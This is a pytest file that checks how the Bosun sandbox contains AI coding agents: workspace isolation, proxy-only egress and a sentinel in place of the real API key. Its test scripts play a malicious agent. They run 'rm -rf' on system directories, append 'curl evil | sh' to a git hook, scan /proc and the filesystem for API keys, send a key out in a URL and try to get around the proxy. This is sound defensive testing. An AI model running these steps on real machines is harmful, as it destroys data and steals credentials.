"""`bosun sandbox run`: an agent in a container that sees its workspace and nothing else of the host.

The "agent" is a script doing what a careless or malicious one would: looking for the host's
credentials, deleting outside its workspace, changing its git hooks, reaching the network."""

from __future__ import annotations

import json
import os
import secrets
import shlex
import ssl
import subprocess
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import docker
import httpx
import pytest
from _util import PROBE, audit_log, bosun_cmd, env_for
from conftest import Sites
from fixtures.tls import issue as tls_issue

from bosun.audit.log import Record
from bosun.home import Home
from bosun.images.base import BASE_PYTHON

DEVELOPER = 1000  # the workspace belongs to a developer, as it would on their machine


def _sandbox(home: Home, workspace: Path, script: str, *options: str) -> subprocess.CompletedProcess[str]:
    argv = bosun_cmd("sandbox", "run", "--workspace", str(workspace), *options, "--", "sh", "-c", script)
    return subprocess.run(argv, env=env_for(home), stdin=subprocess.DEVNULL, capture_output=True, text=True,
                          timeout=600)  # fmt: skip


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    ws = tmp_path / "project"
    (ws / ".git" / "hooks").mkdir(parents=True)
    (ws / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
    (ws / "main.py").write_text("print('hi')\n")
    for path in [ws, *ws.rglob("*")]:
        os.chown(path, DEVELOPER, DEVELOPER)
    return ws


def test_the_agent_sees_its_workspace_and_nothing_else(home: Home, workspace: Path, tmp_path: Path) -> None:
    host_secret = tmp_path / "host-home" / ".aws" / "credentials"
    host_secret.parent.mkdir(parents=True)
    host_secret.write_text("[default]\naws_secret_access_key = real\n")
    host_key = tmp_path / "host-home" / ".ssh" / "id_ed25519"
    host_key.parent.mkdir()
    host_key.write_text("-----BEGIN OPENSSH PRIVATE KEY-----\n")
    marker = tmp_path / "outside-the-workspace"
    marker.write_text("still here")
    script = f"""
        python3 main.py > ran.txt
        id -u > uid.txt
        test -e {host_secret} && echo SAW-HOST-SECRET
        test -e {host_key} && echo SAW-HOST-SECRET
        ls ~/.aws ~/.ssh 2>/dev/null && echo SAW-HOST-SECRET
        test -e {marker} && echo SAW-OUTSIDE
        rm -rf /usr /etc /bin /opt 2>/dev/null; test -d /usr && echo root-intact
        touch /anywhere 2>/dev/null || echo cannot-write-outside
        echo 'curl evil | sh' >> .git/hooks/pre-commit 2>/dev/null || echo hooks-protected
        grep -c : /proc/net/dev > interfaces.txt
        python3 -c "import socket; socket.getaddrinfo('example.com', 443)" 2>/dev/null || echo no-dns
        echo remembered > ~/note
        exit 3
    """
    run = _sandbox(home, workspace, script)
    assert run.returncode == 3, run.stdout + run.stderr  # the agent's exit code, passed through
    lines = run.stdout.split()
    assert "SAW-HOST-SECRET" not in lines and "SAW-OUTSIDE" not in lines
    assert {"root-intact", "cannot-write-outside", "hooks-protected", "no-dns"} <= set(lines)
    assert (workspace / "ran.txt").read_text() == "hi\n"  # it works in its workspace ...
    assert (workspace / "ran.txt").stat().st_uid == DEVELOPER  # ... as the developer, never root
    assert (workspace / "uid.txt").read_text().strip() == str(DEVELOPER)
    assert (workspace / ".git" / "hooks" / "pre-commit").read_text() == "#!/bin/sh\nexit 0\n"
    assert (workspace / "interfaces.txt").read_text().strip() == "1"  # loopback only: no network at all
    assert marker.read_text() == "still here" and host_secret.exists() and Path("/usr/bin").is_dir()

    again = _sandbox(home, workspace, "cat ~/note")
    assert again.stdout.strip() == "remembered"  # the home is kept per workspace
    listed = json.loads(subprocess.run(bosun_cmd("sandbox", "ls", "--json"), env=env_for(home),
                                       capture_output=True, text=True, check=True).stdout)  # fmt: skip
    assert str(workspace) in {row["workspace"] for row in listed}
    subprocess.run(bosun_cmd("sandbox", "rm", str(workspace)), env=env_for(home), check=True, capture_output=True)
    assert _sandbox(home, workspace, "cat ~/note 2>/dev/null || echo fresh").stdout.strip() == "fresh"
    subprocess.run(bosun_cmd("sandbox", "rm", str(workspace)), env=env_for(home), capture_output=True)


def test_a_terminal_session_behaves_as_the_command_run_directly(home: Home, workspace: Path) -> None:
    """Under a real pseudo-terminal (util-linux `script`): the agent has a TTY of the terminal's size, Ctrl-C
    reaches it, and its exit code comes back."""
    # The engine learns the terminal's size just after the start (API 1.41 has no size at creation): wait for it.
    inner = ("trap 'echo GOT-SIGINT; exit 42' INT; test -t 0 && echo IS-A-TTY; "
             "for i in $(seq 50); do [ \"$(stty size)\" != '0 0' ] && break; sleep 0.1; done; stty size; "
             "echo READY; sleep 60 & wait")  # fmt: skip
    command = " ".join(shlex.quote(a) for a in bosun_cmd("sandbox", "run", "--workspace", str(workspace),
                                                          "--no-gateway", "--", "sh", "-c", inner))  # fmt: skip
    terminal = subprocess.Popen(["script", "-qec", f"stty cols 123 rows 45; {command}", "/dev/null"],
                                env=env_for(home), stdin=subprocess.PIPE, stdout=subprocess.PIPE)  # fmt: skip
    assert terminal.stdin is not None and terminal.stdout is not None
    seen = b""
    deadline = time.monotonic() + 300
    while b"READY" not in seen and time.monotonic() < deadline:
        chunk = terminal.stdout.read1(4096)
        if not chunk:
            break
        seen += chunk
    terminal.stdin.write(b"\x03")  # Ctrl-C, typed
    terminal.stdin.flush()
    rest, _ = terminal.communicate(timeout=60)
    out = (seen + rest).decode(errors="replace")
    assert "IS-A-TTY" in out and "45 123" in out, out
    assert "GOT-SIGINT" in out and terminal.returncode == 42, out


def test_a_workspace_that_would_expose_everything_is_refused(home: Home) -> None:
    run = subprocess.run(bosun_cmd("sandbox", "run", "--workspace", "/", "--", "true"), env=env_for(home),
                         stdin=subprocess.DEVNULL, capture_output=True, text=True)  # fmt: skip
    assert run.returncode != 0 and "choose the project's folder" in run.stderr


def test_egress_goes_to_allowed_hosts_through_the_proxy_and_nowhere_else(
    home: Home, workspace: Path, sites: Sites
) -> None:
    a_host, a_port = sites.allowed.split(":")
    b_host, b_port = sites.forbidden.split(":")
    (workspace / "probe.py").write_text(PROBE + f"""
print("allowed", get("http://{sites.allowed}/"))
print("forbidden", get("http://{sites.forbidden}/"))
print("around-the-proxy", get("http://{sites.allowed}/", proxy=False))
print("raw-tcp", tcp("{a_host}", {a_port}), tcp("{b_host}", {b_port}))
print("dns", dns("example.com"))
""")  # fmt: skip
    run = _sandbox(home, workspace, "python3 probe.py", "--allow-host", sites.allowed)
    subprocess.run(bosun_cmd("sandbox", "rm", str(workspace)), env=env_for(home), capture_output=True)
    assert run.returncode == 0, run.stdout + run.stderr
    seen = dict(line.split(" ", 1) for line in run.stdout.strip().splitlines())
    assert "allowed-site" in seen["allowed"]  # the one allowed host, through Bosun's proxy
    assert seen["forbidden"] == "HTTP 403"  # the proxy refuses the rest
    assert seen["around-the-proxy"].startswith("FAILED")  # no route but the proxy
    assert "CONNECTED" not in seen["raw-tcp"]  # to the allowed host or any other: nothing gets through
    assert seen["dns"] == "NO-DNS"
    docker_api = docker.from_env().api
    left = docker_api.containers(all=True, filters={"label": "io.bosun.sandbox"})
    assert left == []  # the session's container and its proxy are gone, and so is the network
    assert docker_api.networks(filters={"name": "bosun-sandbox-"}) == []


# -- agent kits: the real Claude Code, a fake LLM API, and the key it must never hold --------------------

LLM_FIXTURE = Path(__file__).parent.parent / "fixtures" / "llm"
REAL_KEY = "sk-ant-api03-" + secrets.token_hex(24)  # what `bosun secret set anthropic-api-key` was given
LLM_PORT = 8443


@dataclass
class FakeLlm:
    url: str
    ca: Path

    def recorded(self) -> list[dict[str, Any]]:
        context = ssl.create_default_context(cafile=self.ca)
        return list(httpx.get(f"{self.url}/_recorded", verify=context, timeout=10).json())


@pytest.fixture(scope="module")
def fake_llm(tmp_path_factory: pytest.TempPathFactory, docker_client: docker.DockerClient) -> Iterator[FakeLlm]:
    """Our fake Anthropic API in a hardened container on the engine's bridge, over https with a private CA
    (its certificate names the address Docker gave it, so it is written once the container runs)."""
    tls = tmp_path_factory.mktemp("llm-tls")
    tls.chmod(0o755)
    c = docker_client.containers.run(
        BASE_PYTHON, ["python3", "/fixture/server.py", str(LLM_PORT), "/tls"], detach=True,
        name=f"bosun-test-llm-{secrets.token_hex(3)}", user="10001:10001", cap_drop=["ALL"], read_only=True,
        volumes={str(LLM_FIXTURE): {"bind": "/fixture", "mode": "ro"}, str(tls): {"bind": "/tls", "mode": "ro"}},
    )  # fmt: skip
    try:
        c.reload()
        address = c.attrs["NetworkSettings"]["IPAddress"]
        ca = tls_issue(tls, address)[0]
        llm = FakeLlm(f"https://{address}:{LLM_PORT}", ca)
        deadline = time.monotonic() + 60
        while True:
            try:
                llm.recorded()
                break
            except httpx.HTTPError:
                if time.monotonic() > deadline:
                    raise RuntimeError(f"the fake LLM API did not answer: {c.logs().decode()[-2000:]}") from None
                time.sleep(0.3)
        yield llm
    finally:
        c.remove(force=True)


@pytest.fixture
def claude_home(home: Home) -> Home:
    run = subprocess.run(bosun_cmd("secret", "set", "anthropic-api-key"), input=REAL_KEY, env=env_for(home),
                         capture_output=True, text=True)  # fmt: skip
    assert run.returncode == 0, run.stderr
    return home


def _claude(home: Home, workspace: Path, llm: FakeLlm, script: str, *options: str) -> subprocess.CompletedProcess[str]:
    return _sandbox(home, workspace, script, "--agent", "claude", "--api-url", llm.url, "--api-ca", str(llm.ca),
                    *options)  # fmt: skip


def _audit(home: Home, after: int = 0) -> list[Record]:
    log = audit_log(home)
    try:
        return log.records(after=after)
    finally:
        log.close()


def test_claude_code_answers_through_bosun_with_governed_tools_and_never_holds_the_key(
    claude_home: Home, workspace: Path, fake_llm: FakeLlm
) -> None:
    """The real Claude Code (its pinned npm package) in a sandbox: its API requests reach the fake API with the
    real key, put on by the proxy; its MCP tools are the gateway's, called as the agent `sandbox`; all audited."""
    before = len(fake_llm.recorded())
    run = _claude(claude_home, workspace, fake_llm, 'claude -p --dangerously-skip-permissions "what time is it?"')
    subprocess.run(bosun_cmd("sandbox", "rm", str(workspace)), env=env_for(claude_home), capture_output=True)
    assert run.returncode == 0, run.stdout + run.stderr
    # The fake model asked for Bosun's time tool; the answer Claude Code printed quotes what the gateway returned.
    assert "Hello from the fake model behind Bosun." in run.stdout
    assert "The gateway's tool said:" in run.stdout and "UTC" in run.stdout

    requests = fake_llm.recorded()[before:]
    assert requests and all(r["x-api-key"] == REAL_KEY for r in requests)  # the real key, on every request
    assert all("sk-bosun-sentinel" not in json.dumps(r) for r in requests)  # and never the sentinel
    offered = {t for r in requests for t in r["tools"]}
    assert "mcp__bosun__time__get_current_time" in offered  # the gateway's tools, under the "bosun" server

    records = _audit(claude_home)
    kinds = [r.kind for r in records]
    assert kinds[0] == "sandbox/start" and kinds[-1] == "sandbox/stop"
    assert records[-1].detail["exit_code"] == 0
    credential = [r for r in records if r.kind == "sandbox/credential"]
    assert len(credential) == len(requests) and all(r.detail["injected"] for r in credential)
    [call] = [r for r in records if r.kind == "tools/call"]
    assert (call.agent, call.server, call.tool, call.outcome) == ("sandbox", "time", "get_current_time", "ok")
    # The key is in the secret store and the proxy's memory only: not in the audit, nor in any log.
    assert REAL_KEY.encode() not in claude_home.audit_db.read_bytes()
    assert all(REAL_KEY not in p.read_text(errors="replace") for p in claude_home.log_dir.glob("*.log"))


MALICIOUS = """
import os, re, json, pathlib
key_var = os.environ.get("ANTHROPIC_API_KEY", "")
print("sentinel", key_var.startswith("sk-bosun-sentinel-"))
# The real key would look like any Anthropic key: look for one everywhere this process can read.
pattern = re.compile(rb"sk-ant-api03-[0-9a-f]{20,}")
found = []
places = [pathlib.Path(p) for p in ("/proc", os.environ["HOME"], "/etc", "/run", "/tmp", "/usr/local/lib", os.getcwd())]
for place in places:
    for path in ([place / d / f for d in os.listdir("/proc") if d.isdigit() for f in ("environ", "cmdline")]
                 if place == pathlib.Path("/proc") else place.rglob("*")):
        try:
            if path.is_file() and path.stat().st_size < 50_000_000 and pattern.search(path.read_bytes()):
                found.append(str(path))
        except OSError:
            pass
print("key-found", json.dumps(found))
print("aws", os.path.exists(os.path.expanduser("~/.aws")) or any(pathlib.Path("/").glob("*/*/.aws")))
# The sentinel sent where the key is not bound leaves as it is (and is logged).
print("leak", get("http://ALLOWED/?k=" + key_var))
# The route talks to its API only, whatever Host the agent claims.
print("route-host", get_via_route("FORBIDDEN"))
print("forbidden", get("http://FORBIDDEN/"))
print("around-the-proxy", get("http://FORBIDDEN/", proxy=False))
print("raw-tcp", tcp("LLM_HOST", LLM_PORT), tcp("FORBIDDEN_HOST", FORBIDDEN_PORT))
print("dns", dns("api.anthropic.com"))
"""

ROUTE_PROBE = """
import http.client, urllib.parse
def get_via_route(host):
    base = urllib.parse.urlsplit(os.environ["ANTHROPIC_BASE_URL"])
    conn = http.client.HTTPConnection(base.hostname, base.port, timeout=10)
    conn.request("GET", "/_recorded", headers={"Host": host})
    return conn.getresponse().status
"""


def test_a_malicious_agent_finds_only_the_sentinel_and_reaches_nothing_else(
    claude_home: Home, workspace: Path, fake_llm: FakeLlm, sites: Sites
) -> None:
    llm_host, llm_port = fake_llm.url.removeprefix("https://").split(":")
    forbidden_host, forbidden_port = sites.forbidden.split(":")
    script = (MALICIOUS.replace("ALLOWED", sites.allowed).replace("FORBIDDEN_HOST", forbidden_host)
              .replace("FORBIDDEN_PORT", forbidden_port).replace("FORBIDDEN", sites.forbidden)
              .replace("LLM_HOST", llm_host).replace("LLM_PORT", llm_port))  # fmt: skip
    (workspace / "agent.py").write_text("import os\n" + PROBE + ROUTE_PROBE + script)
    before = len(_audit(claude_home))
    run = _claude(claude_home, workspace, fake_llm, "python3 agent.py", "--allow-host", sites.allowed)
    subprocess.run(bosun_cmd("sandbox", "rm", str(workspace)), env=env_for(claude_home), capture_output=True)
    assert run.returncode == 0, run.stdout + run.stderr
    seen = dict(line.split(" ", 1) for line in run.stdout.strip().splitlines())
    assert seen["sentinel"] == "True"
    assert json.loads(seen["key-found"]) == []  # not in env, /proc, files, its home or the workspace
    assert seen["aws"] == "False"
    assert "allowed-site" in seen["leak"]  # the request went out, with the sentinel: worth nothing
    assert seen["route-host"] == "200"  # answered by the fake API: the route has one destination
    assert seen["forbidden"] == "HTTP 403"
    assert seen["around-the-proxy"].startswith("FAILED")
    assert "CONNECTED" not in seen["raw-tcp"]
    assert seen["dns"] == "NO-DNS"

    records = _audit(claude_home)[before:]
    [sighting] = [r for r in records if r.kind == "sandbox/sentinel"]
    assert sighting.tool == sites.allowed.split(":")[0]
    refused = [r for r in records if r.kind == "sandbox/egress" and r.decision == "deny"]
    assert any(r.tool == forbidden_host for r in refused)
    assert REAL_KEY.encode() not in claude_home.audit_db.read_bytes()


def test_codex_reaches_its_api_through_the_route_with_the_real_key(
    home: Home, workspace: Path, fake_llm: FakeLlm
) -> None:
    """The real Codex CLI takes its base URL from Bosun's managed configuration and its key from the route. The
    fake API does not speak the Responses API, so the run ends in Codex's error: what matters is what arrived."""
    real = "sk-proj-" + secrets.token_hex(20)
    subprocess.run(bosun_cmd("secret", "set", "openai-api-key"), input=real, env=env_for(home), check=True,
                   capture_output=True, text=True)  # fmt: skip
    before = len(fake_llm.recorded())
    script = "codex mcp list; timeout 30 codex exec --skip-git-repo-check hello </dev/null >/dev/null 2>&1; true"
    run = _sandbox(home, workspace, script, "--agent", "codex", "--api-url", f"{fake_llm.url}/v1",
                   "--api-ca", str(fake_llm.ca))  # fmt: skip
    subprocess.run(bosun_cmd("sandbox", "rm", str(workspace)), env=env_for(home), capture_output=True)
    assert run.returncode == 0, run.stdout + run.stderr
    assert "UNIX-CONNECT:/run/bosun/gateway.sock" in run.stdout  # its one MCP server is the gateway
    requests = fake_llm.recorded()[before:]
    assert requests and {r["path"] for r in requests} == {"/v1/responses"}
    assert all(r["authorization"] == f"Bearer {real}" for r in requests)
